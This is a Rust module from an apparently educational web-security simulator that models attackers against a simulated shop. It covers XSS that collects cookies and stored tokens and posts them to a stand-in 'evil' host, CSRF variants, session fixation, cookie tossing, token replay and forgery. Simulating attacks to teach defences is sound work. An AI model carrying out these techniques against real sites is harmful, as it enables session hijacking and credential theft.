//! What attackers do: with their own page in the victim's browser, with a script in the
//! shop's page, and with their own machine.

use super::{page, wire};
use crate::sim::browser::RequestContext;
use crate::sim::browser::request::{Credentials, FetchMode, RequestKind};
use crate::sim::clock::Time;
use crate::sim::credentials::Client;
use crate::sim::exchange::{AttackerPlan, Call, Exchange, Purpose, Reply};
use crate::sim::http::Request;
use crate::sim::lane;
use crate::sim::origin::{Origin, Scheme, Url};
use crate::sim::paths;
use crate::sim::scenario::action::Forgery;
use crate::sim::scenario::settings::{SiteScheme, TokenStorage};
use crate::sim::server::cookies::{self, DOMAIN};
use crate::sim::server::dpop;
use crate::sim::shop::{self, ATTACKER, BLOG, EVIL, SHOP};
use crate::sim::site::endpoints;
use crate::sim::state::{Actor, StolenCredential};
use crate::sim::stolen::{self, REFRESH};
use crate::sim::trace::What;
use crate::sim::world::World;

/// A script in the shop's page reads what scripts can read, and sends it to the attacker.
/// If the page could ask for a token, the script does so first.
pub fn xss_read(world: &mut World, tab: u8) {
    match token_request(world, tab) {
        Some(request) => {
            let purpose = Purpose::ScriptRefresh { tab };
            let exchange = Exchange {
                attack: Some(world.now),
                ..page::exchange(world, Actor::Script, request, purpose)
            };
            wire::send(world, exchange);
        }
        None => exfiltrate(world, tab, Vec::new()),
    }
}

/// The request by which a script gets a token of its own: the browser attaches the cookie
/// with the refresh token, and the answer can be read (RFC 10017,
/// section 5.1.3).
fn token_request(world: &mut World, tab: u8) -> Option<Request> {
    let settings = &world.settings;
    let by_cookie = settings.refresh_storage == TokenStorage::Cookie;
    if !by_cookie || settings.access_storage == TokenStorage::Cookie {
        return None;
    }
    let side = lane::of(world.lane).client();
    let me = Actor::Tab(tab);
    side.renewal(&mut Client { world, me })
}

/// The script sends what it was given and what it can read to the attacker.
fn exfiltrate(world: &mut World, tab: u8, mut found: Vec<(String, String)>) {
    let readable: Vec<(String, String)> = wire::script_reads(world)
        .into_iter()
        .map(|cookie| (cookie.name, cookie.value))
        .collect();
    stolen::keep_cookies(world, &readable);
    // Variables of the page's own code are out of reach.
    let tab_storage = world.state.all::<String>(Actor::Tab(tab));
    let stored: Vec<(String, String)> = world
        .state
        .all::<String>(Actor::Browser)
        .chain(tab_storage)
        .filter_map(|(name, value)| {
            let (storage, name) = name.split_once('/')?;
            matches!(storage, "local-storage" | "session-storage")
                .then(|| (name.to_owned(), value.clone()))
        })
        .collect();
    stolen::keep_tokens(world, &stored);
    stolen::keep_tokens(world, &found);
    found.extend(readable);
    found.extend(stored);
    let url = attackers(EVIL, "/collect");
    let mut request = Request::new("POST", url.clone());
    request.headers.add("Content-Type", "text/plain");
    request.body = stolen::joined(&found, "&");
    let kind = RequestKind::Fetch {
        mode: FetchMode::NoCors,
        credentials: Credentials::Omit,
    };
    let shop = world.url(paths::PAGE).origin;
    let context = RequestContext::within(&shop, url, "POST", kind);
    let exchange = Exchange {
        from: Actor::Script,
        context: Some(context),
        ..bare(world, request, Purpose::Nothing)
    };
    world.emit(What::Note {
        who: Actor::Script,
        text: match found.len() {
            1 => format!("has 1 value of tab {tab}"),
            count => format!("has {count} values of tab {tab}"),
        },
    });
    wire::send(world, exchange);
}

/// A script in the shop's page uses the page's own code to send a request.
pub fn xss_ride(world: &mut World, tab: u8) {
    let call = Call::new("POST", paths::WRITE);
    let request = page::compose(world, Actor::Tab(tab), &call);
    let exchange = Exchange {
        attack: Some(world.now),
        ..page::exchange(world, Actor::Script, request, Purpose::Nothing)
    };
    wire::send(world, exchange);
}

/// How another site's page makes the browser send a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Csrf {
    /// A form that submits itself: a navigation with `POST`.
    Form,
    /// An image whose address is the request: `GET`.
    Image,
    /// A script's `fetch()` in mode `no-cors`.
    Fetch,
}

/// A page of the attacker in the victim's browser.
pub fn csrf(world: &mut World, how: Csrf) {
    let evil = Origin::new(Scheme::Https, EVIL);
    let url = world.url(paths::WRITE);
    let (request, context) = match how {
        Csrf::Form => (
            Request::new("POST", url.clone()).form("text=gotcha".to_owned()),
            RequestContext::navigation(url, "POST", &evil),
        ),
        Csrf::Image => {
            let url = world.url(&format!("{}?text=gotcha", paths::WRITE));
            (
                Request::new("GET", url.clone()),
                RequestContext::within(&evil, url, "GET", RequestKind::Image),
            )
        }
        Csrf::Fetch => {
            let mut request = Request::new("POST", url.clone());
            request.headers.add("Content-Type", "text/plain");
            request.body = r#"{"text":"gotcha"}"#.to_owned();
            let kind = RequestKind::Fetch {
                mode: FetchMode::NoCors,
                credentials: Credentials::Include,
            };
            let context = RequestContext::within(&evil, url, "POST", kind);
            (request, context)
        }
    };
    let exchange = Exchange {
        from: Actor::AttackerPage,
        context: Some(context),
        ..bare(world, request, Purpose::Nothing)
    };
    wire::send(world, exchange);
}

/// Copies every credential that the victim's browser holds for the shop.
pub fn steal(world: &mut World, tab: u8) {
    let url = world.url(paths::READ);
    let line = wire::jar(world, Actor::Browser)
        .select(&RequestContext::typed(url), world.now)
        .header();
    // A new theft replaces the older one.
    world.sweep::<StolenCredential>(Actor::Thief, |_, _| true);
    if let Some(line) = line {
        stolen::keep(world, "Cookie", line);
    }
    let me = Actor::Tab(tab);
    let client = Client { world, me };
    let access = client.access_token().map(|token| ("access_token", token));
    let refresh = client.refresh_token().map(|token| (REFRESH, token));
    let texts: Vec<(String, String)> = access
        .into_iter()
        .chain(refresh)
        .map(|(name, value)| (name.to_owned(), value))
        .collect();
    stolen::keep_tokens(world, &texts);
    // The key of a proof cannot be copied; a proof that was sent can.
    if world.settings.dpop
        && let Some(proof) = world.proofs_sent.get(&me).cloned()
    {
        stolen::keep(world, "DPoP", proof);
    }
    let text = "copies what the browser holds".to_owned();
    let who = Actor::Thief;
    world.emit(What::Note { who, text });
}

/// The thief sends a read with the stolen credential.
pub fn replay(world: &mut World) {
    let mut request = Request::new("GET", world.url(paths::READ));
    let since = attach_stolen(world, &mut request, &["Cookie", "Authorization", "DPoP"]);
    send_stolen(world, request, since, Purpose::Replay);
}

/// The thief asks for new tokens with a stolen refresh token.
pub fn replay_refresh(world: &mut World) {
    let url = world.url(paths::TOKEN);
    let form = "grant_type=refresh_token&client_id=shop-web";
    let token = world
        .state
        .get::<StolenCredential>(Actor::Thief, REFRESH)
        .cloned();
    let (request, since) = match token {
        Some(token) => {
            let body = format!("{form}&refresh_token={}", token.value);
            (Request::new("POST", url).form(body), Some(token.since))
        }
        None => {
            let mut request = Request::new("POST", url).form(form.to_owned());
            let since = attach_stolen(world, &mut request, &["Cookie"]);
            (request, since)
        }
    };
    send_stolen(world, request, since, Purpose::ThiefRefresh);
}

/// The attacker gets a session ID from the shop, to plant it in the victim's browser.
pub fn fixate(world: &mut World) {
    let request = Request::new("GET", world.url(paths::START));
    let exchange = own(world, request, Purpose::AttackerStart);
    wire::send(world, exchange);
}

/// The attacker logs in with their own account.
pub fn log_in(world: &mut World, then: AttackerPlan) {
    let password = shop::password(ATTACKER);
    let body = format!(r#"{{"user":"{ATTACKER}","password":"{password}","client_id":"shop-web"}}"#);
    let mut request = Request::new("POST", world.url(paths::LOG_IN)).json(body);
    let side = lane::of(world.lane).client();
    let me = Actor::Thief;
    side.prove_key(&mut Client { world, me }, &mut request);
    let exchange = own(world, request, Purpose::AttackerLogIn { then });
    wire::send(world, exchange);
}

/// Someone listens while the person opens the shop without https.
pub fn sniff(world: &mut World) {
    world.sniffed = true;
    let mut url = world.url(paths::READ);
    url.origin = Origin::new(Scheme::Http, SHOP);
    let exchange = Exchange {
        from: Actor::Tab(1),
        request: Request::new("GET", url.clone()),
        context: Some(RequestContext::typed(url)),
        purpose: Purpose::Nothing,
        attack: None,
        lose_response: false,
        reply: None,
    };
    wire::send(world, exchange);
    page::call(world, Actor::Tab(1), Call::new("GET", paths::READ));
}

/// What happens when an answer for the attacker has arrived.
pub fn answered(world: &mut World, purpose: &Purpose, reply: &Reply) {
    match purpose {
        Purpose::AttackerStart => {
            // Whoever logs in with this session ID shares the session.
            let cookies = stolen::cookies_of(&reply.response);
            stolen::keep_cookies(world, &cookies);
            plant(world, &cookies, "/");
        }
        Purpose::AttackerLogIn {
            then: AttackerPlan::Toss,
        } => plant(world, &stolen::cookies_of(&reply.response), "/api"),
        Purpose::AttackerLogIn {
            then: AttackerPlan::Forge(forgery),
        } => forge(world, *forgery, reply),
        Purpose::ThiefRefresh if reply.rule.accepts() => {
            stolen::keep_tokens(world, &stolen::tokens_of(&reply.response));
            stolen::keep_cookies(world, &stolen::cookies_of(&reply.response));
        }
        Purpose::ScriptRefresh { tab } => {
            exfiltrate(world, *tab, stolen::tokens_of(&reply.response))
        }
        // A stolen session may get a new ID, which goes to whoever sends the first request.
        Purpose::Replay => stolen::keep_cookies(world, &stolen::cookies_of(&reply.response)),
        _ => {}
    }
}

/// Plants the cookies of an answer in the victim's browser, from a sub-domain of the
/// shop whose pages the attacker writes ("cookie tossing").
fn plant(world: &mut World, planted: &[(String, String)], path: &str) {
    if planted.is_empty() {
        let text = "got nothing that a browser would send by itself".to_owned();
        let who = Actor::Thief;
        world.emit(What::Note { who, text });
        return;
    }
    let encrypted = world.settings.scheme == SiteScheme::Https;
    for (name, value) in planted {
        // Cookies with longer paths are sent first, and servers take the first of two.
        let path = if name.ends_with(cookies::REFRESH) {
            paths::TOKEN
        } else {
            path
        };
        let secure = if encrypted || name.starts_with("__") {
            "; Secure"
        } else {
            ""
        };
        let line = format!("{name}={value}; Domain={DOMAIN}; Path={path}{secure}");
        world.put(Actor::Thief, &format!("to plant: {name}"), line);
    }
    let url = attackers(BLOG, "/article");
    let exchange = Exchange {
        from: Actor::Tab(1),
        request: Request::new("GET", url.clone()),
        context: Some(RequestContext::typed(url)),
        purpose: Purpose::Plant,
        attack: None,
        lose_response: false,
        reply: None,
    };
    wire::send(world, exchange);
}

fn forge(world: &mut World, forgery: Forgery, reply: &Reply) {
    let lane = lane::of(world.lane);
    let mut server = endpoints::server(world, Actor::Thief, None);
    let (name, value) = lane.forge(&mut server, forgery, &reply.response);
    let mut request = Request::new("GET", world.url(paths::READ));
    // The attacker can prove possession for their own bound token, whatever its claims say.
    let token = value.strip_prefix("Bearer ").map(str::to_owned);
    match token.filter(|_| world.settings.dpop) {
        Some(token) => {
            request.headers.add(&name, format!("DPoP {token}"));
            dpop::prove(world, Actor::Thief, &mut request, Some(&token));
        }
        None => request.headers.add(&name, value),
    }
    let exchange = bare(world, request, Purpose::Nothing);
    wire::send(world, exchange);
}

fn attach_stolen(world: &World, request: &mut Request, lines: &[&str]) -> Option<Time> {
    let mut since = None;
    for line in lines {
        if let Some(stolen) = world.state.get::<StolenCredential>(Actor::Thief, line) {
            request.headers.add(line, stolen.value.clone());
            since = Some(stolen.since);
        }
    }
    since
}

fn send_stolen(world: &mut World, request: Request, since: Option<Time>, purpose: Purpose) {
    let Some(since) = since else {
        let text = "has nothing to try".to_owned();
        let who = Actor::Thief;
        world.emit(What::Note { who, text });
        return;
    };
    let exchange = Exchange {
        attack: Some(since),
        ..bare(world, request, purpose)
    };
    wire::send(world, exchange);
}

/// A request of the thief's machine: no browser adds anything to it.
fn bare(world: &World, request: Request, purpose: Purpose) -> Exchange {
    Exchange {
        from: Actor::Thief,
        request,
        context: None,
        purpose,
        attack: Some(world.now),
        lose_response: false,
        reply: None,
    }
}

/// The same for what the attacker may do with their own account.
fn own(world: &World, request: Request, purpose: Purpose) -> Exchange {
    Exchange {
        attack: None,
        ..bare(world, request, purpose)
    }
}

fn attackers(host: &str, path: &str) -> Url {
    Url::new(Origin::new(Scheme::Https, host), path)
}
